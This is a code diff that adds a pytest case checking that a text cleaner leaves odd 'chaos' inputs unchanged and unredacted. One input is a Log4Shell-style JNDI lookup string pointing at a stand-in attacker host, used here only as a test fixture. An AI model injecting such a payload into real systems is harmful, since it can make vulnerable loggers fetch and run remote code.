@@ -146,6 +146,21 @@ def test_placeholders_survive_a_second_clean() -> None:
     assert twice.redactions == []
 
 
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("🔥🔥🔥🔥🔥", "🔥🔥🔥"),
+        ("asdfghjkl", "asdfghjkl"),
+        ("${jndi:ldap://evil.com/a}", "${jndi:ldap://evil.com/a}"),
+        ("[REDACTED]", "[REDACTED]"),
+    ],
+)
+def test_seed_chaos_inputs_stay_recognisable(text: str, expected: str) -> None:
+    result = clean(text)
+    assert result.text == expected
+    assert result.redactions == []
+
+
 # -- length and robustness ----------------------------------------------------------------------
 
 
